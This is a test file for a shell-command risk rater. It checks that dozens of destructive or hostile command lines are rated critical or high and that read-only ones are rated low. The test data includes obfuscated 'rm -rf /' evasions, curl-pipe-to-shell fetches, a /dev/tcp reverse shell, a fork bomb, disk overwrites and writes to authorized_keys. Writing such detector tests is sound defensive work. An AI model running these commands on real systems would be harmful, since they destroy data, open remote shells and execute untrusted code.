import { describe, expect, test } from "bun:test";
import { rateShell } from "./rate.ts";
import { rated } from "./testing/rated.ts";

describe("a line that removes a system tree is critical", () => {
  test.each([
    "rm -rf /",
    "rm -r -f /*",
    "rm -fr --no-preserve-root /",
    "sudo rm -rf '/etc/'",
    "true; /bin/rm -rf /usr/*; true",
    'rm -rf "$HOME"',
    "rm -rf ${HOME}/",
    'rm -rf "$X"/*',
    "r''m -rf /usr",
    'r"m" -r\\f /usr',
    "$'\\x72\\x6d' -rf /usr",
    "rm \\\n-rf /usr",
    "rm${IFS}-rf${IFS}/",
    "{rm,-rf,/}",
    "x=rm; $x -rf /usr",
    "x='rm -rf /'; $x",
    "a=(rm -rf /); ${a[@]}",
    "cd / && rm -rf usr",
    "cd /usr; rm -rf ../etc",
    "rm -rf /tmp/../etc",
    "rm -rf /e??",
    "rm -rf ../../../../etc",
    "env -i nice -n 5 timeout 3 rm -rf /",
    "bash -c 'rm -rf /'",
    "sh -c \"bash -c 'rm -rf /usr'\"",
    "eval rm -rf /",
    "eval 'x=/'; rm -rf $x",
    "bash <<EOF\nrm -rf /\nEOF",
    "bash <<< 'rm -rf /'",
    "echo 'rm -rf /' | sh",
    'f() { rm -rf "$1"; }; f /',
    'set -- rm -rf /; "$@"',
    "trap 'rm -rf /' EXIT",
    "coproc rm -rf /",
    "echo $(rm -rf /)",
    "echo `rm -rf /`",
    "echo `echo \\`rm -rf /\\``",
    "echo $((a[$(rm -rf /)]))",
    "a[$(rm -rf /)]=1",
    "[[ -n $(rm -rf /) ]]",
    "cat <<EOF\n$(rm -rf /)\nEOF",
    "cat < <(rm -rf /)",
    "echo ${x:-$(rm -rf /)}",
    "case x in $(rm -rf /)) ;; esac",
    "for ((i=0;i<$(rm -rf /);i++)); do :; done",
    "for d in /etc /usr; do rm -rf $d; done",
    "if true; then rm -rf /; fi",
    "while false; do rm -rf /; done",
    "! rm -rf /",
    "time rm -rf /",
    "rm -rf / &",
    "(cd /; rm -rf etc)",
    "find / -exec rm -rf {} +",
    "find /etc -delete",
    "echo / | xargs rm -rf",
    "ssh web1 'rm -rf /etc'",
    "watch 'rm -rf /'",
    "flock /tmp/l -c 'rm -rf /'",
    "rm --recurs --forc /usr",
  ])("%s", (line) => expect(rated(line)[0]).toBe("critical"));
});

describe("what only reads is low", () => {
  test.each([
    "ls -la /etc",
    "cat /etc/passwd | grep -v nologin | cut -d: -f1 | sort | uniq -c",
    "echo 'rm -rf /'",
    "grep 'rm -rf' history.txt # rm -rf /",
    "man rm",
    "type rm; which rm; command -v rm",
    "find /var/log -name '*.log' -mtime -1 -size +10M",
    "find . -type f -exec wc -l {} +",
    "find . -print0 | xargs -0 grep -l needle",
    'for f in *.log; do wc -l "$f"; done',
    'while read -r l; do echo "$l"; done < /etc/hosts',
    "sed -n '1,5p' /etc/fstab",
    "awk -F: '$3 >= 1000 { print $1 }' /etc/passwd",
    "tar tzf x.tgz",
    "df -h 2>/dev/null; free -m",
    "bash -c 'uptime; df -h'",
    "bash -n script.sh",
    "cd /var/log && ls -lt | head -5",
    "x=$(date +%s); echo $((x - 5))",
    "diff <(sort a) <(sort b)",
    "[ -f /etc/nginx/nginx.conf ] && stat -c %a /etc/nginx/nginx.conf",
  ])("%s", (line) => {
    expect(rated(line)).toEqual(["low", 1]);
    expect(rateShell(line).confine).toBe("local");
  });
});

test.each<[string, string, number]>([
  ["cat /etc/shadow", "high", 4],
  ["cat /e??/sh*", "high", 4],
  ["grep -ri password /", "high", 4],
  ["sudo -i", "critical", 4],
  ["sudo frobnicate", "high", 4],
  ["frobnicate", "medium", 2],
  ["./ls", "medium", 2],
  ["./deploy.sh", "high", 2],
  ["/tmp/ls", "high", 2],
  ["$(cat name) x", "high", 2],
  ["curl -s http://example.org/x | sh", "critical", 2],
  ["bash <(curl -s http://example.org/x)", "critical", 2],
  ['eval "$(base64 -d x)"', "critical", 2],
  ["echo cm0K | base64 -d | bash", "critical", 2],
  ["printf '\\x72\\x6d' | sh", "critical", 2],
  ["cat x.sh | sh", "high", 2],
  ["bash -i >& /dev/tcp/198.51.100.4/80 0>&1", "critical", 2],
  [":(){ :|:& };:", "critical", 2],
  ["LD_PRELOAD=/tmp/x.so ls", "high", 2],
  ["export PATH=/tmp:$PATH; ls", "high", 2],
  ["hash -p /tmp/x ls; ls", "high", 2],
  ["cp f f.bak", "medium", 2],
  ["cp /etc/fstab /etc/fstab.bak && sed -i s/a/b/ /etc/fstab", "medium", 3],
  ["sed -i s/a/b/ /etc/fstab", "high", 3],
  ["sed -i.bak s/a/b/ /etc/fstab", "medium", 3],
  ["sed 's/x/y/w /etc/passwd' f", "critical", 4],
  ["sed '1e id' f", "high", 2],
  ["awk 'BEGIN { system(\"id\") }'", "high", 2],
  ["tar xf a.tar -C /", "critical", 4],
  ["tar cf a.tar --checkpoint=1 --checkpoint-act=exec=sh y", "high", 2],
  ["sort -o /etc/passwd x", "critical", 4],
  ["sort --outpu=/etc/passwd x", "critical", 4],
  ["echo x >> ~/.ssh/authorized_keys", "critical", 4],
  ["echo x > /etc/cron.d/y", "high", 3],
  ["rm -rf node_modules", "medium", 2],
  ["rm notes.txt", "high", 2],
  ["ssh web1 uptime", "high", 3],
  ["systemctl restart nginx", "medium", 3],
  ["systemctl stop sshd", "critical", 4],
  ["chmod u+s x", "critical", 4],
  ["dd if=/dev/zero of=/dev/sda", "critical", 4],
  ["echo foo)", "high", 1],
  ["ls \u202e", "high", 2],
  ["l\u0455", "high", 2],
  ["ls\u00a0-l", "high", 2],
])("%s is %s, level %d", (line, risk, level) => expect(rated(line)).toEqual([risk, level]));

describe("a limit", () => {
  test("of length raises", () => {
    expect(rated(`echo ${"a ".repeat(40_000)}`)).toEqual(["high", 2]);
    expect(rated(`rm -rf /; echo ${"a ".repeat(40_000)}`)[0]).toBe("critical");
  });
  test("of commands raises", () => expect(rated("ls;".repeat(501))).toEqual(["high", 2]));
  test("of nesting raises", () => {
    expect(rated(`${"(".repeat(300)}ls${")".repeat(300)}`)[0]).not.toBe("low");
    expect(rated(`${"$(".repeat(200)}ls${")".repeat(200)}`)[0]).not.toBe("low");
    expect(rated(`${"eval ".repeat(40)}ls`)[0]).not.toBe("low");
  });
  test("of values raises", () => {
    const many = Array.from({ length: 30 }, (_, n) => `/tmp/${n}`).join(" ");
    expect(rated(`for a in ${many}; do for b in ${many}; do rm -rf $a/$b; done; done`)[0]).toBe("high");
  });
});

describe("a rating", () => {
  test("is bound to the text and points at the words", () => {
    const line = "ls; rm -rf /etc";
    const { sha256, found } = rateShell(line);
    expect(sha256).toBe(new Bun.CryptoHasher("sha256").update(line).digest("hex"));
    expect(found.map(({ span }) => line.slice(span.from, span.to))).toEqual(["/etc"]);
  });

  test("points into text that is handed to a shell", () => {
    const line = "sh -c 'ls; rm -rf /etc'";
    expect(rateShell(line).found.map(({ span }) => line.slice(span.from, span.to))).toEqual(["/etc"]);
  });

  test("is that of the real path where one is known", () => {
    const resolve = (path: string) => ({ path: path === "/srv/link" ? "/etc/shadow" : path, trusted: false });
    expect(rateShell("cat /srv/link").risk).toBe("low");
    expect(rateShell("cat /srv/link", { resolve }).risk).toBe("high");
    expect(rateShell("/usr/bin/ls").risk).toBe("low");
    expect(rateShell("/usr/bin/ls", { resolve }).risk).toBe("medium");
  });

  test("says what it may be held to", () => {
    expect(rateShell("systemctl status nginx").confine).toBeUndefined();
    expect(rateShell("touch x").confine).toBeUndefined();
  });
});
